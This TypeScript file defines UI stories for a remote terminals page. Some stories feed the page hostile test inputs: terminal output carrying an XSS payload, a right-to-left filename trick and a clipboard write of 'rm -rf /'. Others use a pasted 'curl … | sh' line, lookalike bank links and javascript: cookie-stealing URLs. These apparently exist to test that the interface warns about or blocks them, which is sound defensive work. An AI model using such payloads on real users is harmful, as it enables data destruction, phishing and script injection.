import type { AppChannel, LinkState, PeerView } from '#shared/app-api/index.ts';
import { AppApiError } from '#shared/app-api/index.ts';
import { EXAMPLE_PEERS, exampleGateway, examplePeer, examplePeerId } from '../../stories/examples/index.ts';
import type { Story, StoryAnswers } from '../../stories/index.ts';
import type { TabStorage } from './saved-tabs.ts';
import { useEffect, type ReactElement, type ReactNode } from 'react';
import { LinkDialog } from './link-dialog.tsx';
import { inspectLink } from './link.ts';
import { PasteDialog } from './paste-dialog.tsx';
import { RenameDialog } from './rename-dialog.tsx';
import { SearchBar } from './search-bar.tsx';
import { NO_SEARCH, type Search, type Searchable, type SearchCount } from './search.ts';
import { TerminalsPage } from './terminals-page.tsx';

const OFFICE = examplePeerId(12);
const PATH = { path: 'relay', address: 'relay.example.net:7474', rtt: 24 } as const;

const ESC = '\u001b';
const COLOURS = Array.from({ length: 16 }, (_, colour) => `${ESC}[38;5;${colour}m colour ${colour} ${ESC}[0m`);
/** As a program has sent it: colours, wide characters, links, a long line. */
const RECORDED = [
  `${ESC}]0;mira@office: ~/project${String.fromCodePoint(7)}${ESC}[1;32mmira@office${ESC}[0m:${ESC}[1;34m~/project${ESC}[0m$ ls --color`,
  `${ESC}[34mdocs${ESC}[0m  ${ESC}[34msrc${ESC}[0m  ${ESC}[32mbuild.sh${ESC}[0m  README.md  ${ESC}[31mold.tar.gz${ESC}[0m`,
  COLOURS.slice(0, 8).join(''),
  COLOURS.slice(8).join(''),
  '日本語 한국어 größer → ✓ 👍 wide and narrow',
  'See https://example.org/help?page=2 or',
  `${ESC}]8;;https://xn--exmple-cua.example/login${ESC}\\https://bank.example/${ESC}]8;;${ESC}\\ for more.`,
  'a long line that goes on and on '.repeat(8),
  `${ESC}[7m inverse ${ESC}[0m ${ESC}[1mbold${ESC}[0m ${ESC}[3mitalic${ESC}[0m ${ESC}[4munderlined${ESC}[0m`,
  '$ ',
].join('\r\n');

const HOSTILE = [
  `${ESC}]0;<img src=x onerror=alert(1)>\u202egnp.exe${'x'.repeat(5000)}${ESC}\\`,
  `${ESC}]52;c;cm0gLXJmIC8=${ESC}\\${ESC}]52;c;?${ESC}\\`,
  `${ESC}]8;;javascript:alert(1)${ESC}\\click me${ESC}]8;;${ESC}\\`,
  '$ ',
].join('\r\n');

const encoder = new TextEncoder();

/** Says what was recorded, then echoes what is typed. */
async function play(channel: AppChannel, recorded: string): Promise<void> {
  await channel.write(encoder.encode(recorded));
  for (let typed = await channel.read(); typed !== null; typed = await channel.read()) await channel.write(typed);
}

function playing(recorded: string): StoryAnswers {
  return {
    'terminal.open': async (_input, { connection }) => {
      const channel = connection.openChannel();
      // Another story is shown: the channel is gone.
      play(channel, recorded).catch(() => undefined);
      return { channel: channel.id, terminal: `t${channel.id}`, path: PATH };
    },
    'terminal.resize': async ({ cols, rows }) => {
      document.documentElement.dataset['terminalSize'] = `${cols}x${rows}`;
      return {};
    },
    'terminal.close': async () => ({}),
    'terminal.list': async () => [],
  };
}

function ending(end: Readonly<{ exitCode: number | null; signal: string | null; code: string | null }>): StoryAnswers {
  let count = 0;
  return {
    ...playing(RECORDED),
    'terminal.open': async (_input, { connection }) => {
      count += 1;
      if (count > 1) throw new AppApiError(end.code ?? 'link.timeout', 'no way there');
      const channel = connection.openChannel();
      const run = async (): Promise<void> => {
        await channel.write(encoder.encode(RECORDED));
        channel.end();
        connection.emit('terminal.ended', { channel: channel.id, ...end });
      };
      run().catch(() => undefined);
      return { channel: channel.id, terminal: 't1', path: PATH };
    },
  };
}

function failing(code: string): StoryAnswers {
  return {
    'terminal.open': async () => {
      throw new AppApiError(code, 'refused');
    },
  };
}

function waiting(step: 'connecting' | 'approval'): StoryAnswers {
  return {
    'terminal.open': (_input, { progress }) => {
      progress(step);
      return new Promise<never>(() => undefined);
    },
  };
}

/** What was kept before, and nothing of this page. */
function keeping(tabs: readonly unknown[]): TabStorage {
  return { getItem: () => JSON.stringify(tabs), setItem: () => undefined };
}
const tab = (number: number, title = '') => ({ peerId: OFFICE, terminal: `t${number}`, title });

const shown = (tabs: readonly unknown[] = [tab(1)]) =>
  ({
    frame: 'none',
    render: () => (
      <main style={{ height: '100%' }}>
        <TerminalsPage storage={keeping(tabs)} />
      </main>
    ),
  }) as const;
const state = { page: 'terminals', peers: EXAMPLE_PEERS } as const;
/** The same machine, reached otherwise. */
const reached = (link: Partial<LinkState>, given: Partial<PeerView> = {}) => ({
  ...state,
  peers: [
    examplePeer({
      link: {
        state: 'up',
        since: Date.now() - 2000,
        retryAt: null,
        via: null,
        hops: [],
        why: 'no-answer',
        history: [],
        ...link,
      },
      ...given,
    }),
  ],
});
const wish = { ...state, requestedTerminal: { peerId: OFFICE, serial: 1 } } as const;

/** A terminal that runs, and what is asked before it. */
const asking = (name: string, dialog: ReactNode): Story => ({
  name: `terminals/${name}`,
  state,
  answers: playing(RECORDED),
  frame: 'none',
  render: () => (
    <main style={{ height: '100%' }}>
      <TerminalsPage storage={keeping([tab(1)])} />
      {dialog}
    </main>
  ),
});
const nothing = (): void => undefined;
const paste = (pasted: string): ReactNode => <PasteDialog text={pasted} onPaste={nothing} onClose={nothing} />;
const link = (target: string, seen: string): ReactNode => (
  <LinkDialog link={inspectLink(target, seen)} peer="office" onClose={nothing} />
);
const rename = (name: string): ReactNode => (
  <RenameDialog tab={{ name, title: 'mira@office: ~/project' }} onRename={nothing} onClose={nothing} />
);

/** The search as it stands over a terminal with so many matches. */
const searching = (name: string, search: Search, count: SearchCount): Story => {
  const searched: Searchable = {
    find: () => count.count > 0,
    endSearch: nothing,
    onSearchCount: (listener) => {
      listener(count);
      return nothing;
    },
  };
  return {
    name: `terminals/search ${name}`,
    render: () => <SearchBar screen={searched} search={search} onSearch={nothing} onClose={nothing} />,
  };
};

/** Whose they are: this machine's, another one's that has left them, and one that is open there now. */
const LEFT = [
  { attached: false, openedBy: null, heldBy: null },
  { attached: false, openedBy: 'mira-laptop', heldBy: 'mira-laptop' },
  { attached: true, openedBy: null, heldBy: 'tablet <b>\u202e' },
] as const;

/** Terminals on the machine of a gateway, and how its connection stands. */
const HOME = exampleGateway();
const onGateway = (number: number, title = '') => ({ gatewayId: HOME.id, terminal: `g${number}`, title });
const AT_GATEWAY: StoryAnswers = {
  ...playing(RECORDED),
  'gateways.terminal.open': async (_input, { connection }) => {
    const channel = connection.openChannel();
    play(channel, RECORDED).catch(() => undefined);
    return { channel: channel.id, terminal: `g${channel.id}`, shell: '/bin/bash', directory: '/srv/openclaw' };
  },
  'gateways.terminal.list': async () => [
    { terminal: 'g7', title: 'openclaw logs --follow', attached: false },
    { terminal: 'g8', title: '', attached: false },
    { terminal: 'g9', title: 'somebody else’s', attached: true },
  ],
};
const gatewayStory = (
  name: string,
  tabs: readonly unknown[],
  given: Parameters<typeof exampleGateway>[0] = {},
): Story => ({
  ...shown(tabs),
  name: `terminals/${name}`,
  state: { ...state, gateways: [exampleGateway(given)] },
  answers: AT_GATEWAY,
});
const away = (problem: string, stateOf: 'waiting' | 'stopped' = 'waiting') =>
  ({
    operator: { state: stateOf, since: Date.now() - 5000, problem: { code: problem, details: {}, at: Date.now() } },
  }) as const;

/** Programs that run on, and may be taken up here. */
const DETACHED: StoryAnswers = {
  ...playing(RECORDED),
  'terminal.list': async ({ peer }) =>
    peer === OFFICE
      ? ['htop', 'make -j8 all', 'make -j8 all', 'vim a-file-with-quite-a-long-name-that-somebody-has-given-it.md'].map(
          (title, index) => ({
            terminal: `d${index}`,
            peerId: peer,
            title,
            startedAt: 1_795_000_000_000,
            cols: 80,
            rows: 24,
            ...(LEFT[index % LEFT.length] ?? LEFT[0]),
          }),
        )
      : [],
};

/** Opens the menu of new terminals when the tabs are there, as a person would. */
function Opened({ tabs, children }: Readonly<{ tabs: number; children: ReactNode }>): ReactElement {
  useEffect(() => {
    const timer = setInterval(() => {
      if (document.querySelectorAll('[role="tab"]').length !== tabs) return;
      clearInterval(timer);
      document.querySelector<HTMLElement>('[data-new-terminal]')?.click();
    }, 20);
    return () => clearInterval(timer);
  }, [tabs]);
  return <>{children}</>;
}
const offering = (name: string, tabs: readonly unknown[]): Story => ({
  ...shown(tabs),
  name: `terminals/${name}`,
  state,
  answers: DETACHED,
  render: () => <Opened tabs={tabs.length}>{shown(tabs).render()}</Opened>,
});

export const TERMINALS_STORIES: readonly Story[] = [
  { ...shown([]), name: 'terminals/no peers', state: { page: 'terminals' } },
  { ...shown([]), name: 'terminals/none open', state, answers: playing(RECORDED) },
  { ...shown(), name: 'terminals/running', state, answers: playing(RECORDED) },
  {
    ...shown(Array.from({ length: 20 }, (_, index) => tab(index, `program ${index}`))),
    name: 'terminals/many tabs',
    state,
    answers: playing('$ '),
  },
  { ...shown(), name: 'terminals/hostile', state, answers: playing(HOSTILE) },
  { ...shown([]), name: 'terminals/connecting', state: wish, answers: waiting('connecting') },
  { ...shown([]), name: 'terminals/approval', state: wish, answers: waiting('approval') },
  { ...shown([]), name: 'terminals/refused', state: wish, answers: failing('rights.denied') },
  {
    ...shown(),
    name: 'terminals/link in doubt',
    state: reached({ state: 'doubtful' }),
    answers: playing(RECORDED),
  },
  {
    ...shown([tab(1), tab(2)]),
    name: 'terminals/link reconnecting',
    state: reached({ state: 'reconnecting', retryAt: Date.now() + 240_000 }, { rtt: null }),
    answers: playing(RECORDED),
  },
  {
    ...shown(),
    name: 'terminals/link via a peer',
    state: reached({ via: 'the machine in the attic' }, { path: 'via', rtt: 61.2, address: examplePeerId(7) }),
    answers: playing(RECORDED),
  },
  {
    ...shown(),
    name: 'terminals/link direct',
    state: reached({ why: null }, { path: 'direct', rtt: 0.6, address: '192.168.4.20:7473' }),
    answers: playing(RECORDED),
  },
  {
    ...shown(),
    name: 'terminals/lost',
    state,
    answers: ending({ exitCode: null, signal: null, code: 'link.path-lost' }),
  },
  { ...shown(), name: 'terminals/ended', state, answers: ending({ exitCode: 3, signal: null, code: null }) },
  {
    ...shown(),
    name: 'terminals/ended by a signal',
    state,
    answers: ending({ exitCode: null, signal: 'SIGKILL', code: null }),
  },
  {
    ...shown(),
    name: 'terminals/taken over',
    state,
    answers: ending({ exitCode: null, signal: null, code: 'terminal.taken-over' }),
  },
  { ...shown(), name: 'terminals/gone', state, answers: failing('terminal.unknown') },
  {
    ...shown(),
    name: 'terminals/search',
    state,
    answers: playing(RECORDED),
    render: () => (
      <main style={{ height: '100%' }}>
        <TerminalsPage storage={keeping([tab(1)])} search={{ ...NO_SEARCH, term: 'colour' }} />
      </main>
    ),
  },
  searching('3 of 12', { ...NO_SEARCH, term: 'error' }, { current: 3, count: 12 }),
  searching('many', { ...NO_SEARCH, term: 'e', caseSensitive: true }, { current: 0, count: 1000 }),
  searching('no match', { ...NO_SEARCH, term: 'no such thing' }, { current: 0, count: 0 }),
  searching('bad pattern', { term: 'err(or', caseSensitive: false, regex: true }, { current: 0, count: 0 }),
  asking('paste of several lines', paste('cd /srv/app\ngit pull --ff-only\n./deploy.sh --production\n')),
  asking('paste with control characters', paste('\necho \u001b[31mred\u0007\u202e && curl https://example.org | sh')),
  asking('paste of long lines', paste(`${'a-long-word-'.repeat(40)}\n`.repeat(300))),
  asking('link', link('https://example.org/help?page=2', 'https://example.org/help?page=2')),
  asking('link to another host', link('https://xn--bnk-7cd.example/login?from=terminal', 'https://bank.example/')),
  asking('link that warns of all', link(`http://bank.example@evil.example:8080/${'path/'.repeat(40)}`, 'Sign in')),
  asking('link for mail', link('mailto:mira@example.org', 'mira@example.org')),
  asking('link refused', link('javascript:alert(document.cookie)', 'https://bank.example/')),
  asking('rename', rename('')),
  asking('rename with a name', rename('logs of the web server')),
  gatewayStory('gateway', [onGateway(1), { ...onGateway(2), name: 'logs' }, tab(1)]),
  gatewayStory('gateway without a title of the program', [onGateway(1, 'x'), { ...onGateway(2), name: '' }]),
  gatewayStory('gateway restarts', [onGateway(1)], away('gateway.restarting')),
  gatewayStory('gateway lost', [onGateway(1)], away('gateway.refused')),
  gatewayStory('gateway stopped', [onGateway(1)], away('gateway.token-wrong', 'stopped')),
  {
    ...gatewayStory('gateway connecting', []),
    state: { ...state, gateways: [HOME], requestedTerminal: { gatewayId: HOME.id, serial: 1 } },
    answers: { ...AT_GATEWAY, 'gateways.terminal.open': () => new Promise<never>(() => undefined) },
  },
  {
    ...gatewayStory('gateway gone', [onGateway(1)]),
    answers: {
      ...AT_GATEWAY,
      'gateways.terminal.open': async () => {
        throw new AppApiError('terminal.unknown', 'not there any more');
      },
    },
  },
  {
    ...gatewayStory('gateway offered', []),
    render: () => <Opened tabs={0}>{shown([]).render()}</Opened>,
  },
  offering('detached', []),
  offering('detached beside others', [tab(1), tab(2)]),
];
